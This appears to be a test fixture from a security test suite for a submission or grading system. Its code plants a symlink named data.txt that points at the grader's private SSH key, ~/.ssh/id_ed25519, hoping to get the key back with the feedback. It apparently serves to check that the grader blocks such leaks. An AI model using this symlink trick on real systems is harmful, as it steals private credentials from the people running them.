# /// attack
# tries = "Hands in a file that is a link to the teacher's private key, to get it back with the feedback."
# points = 0
# shows = ["leak"]
# ///


def submit(place):
    place.save()
    (place.folder / "data.txt").symlink_to(f"{place.bait['home']}/.ssh/id_ed25519")
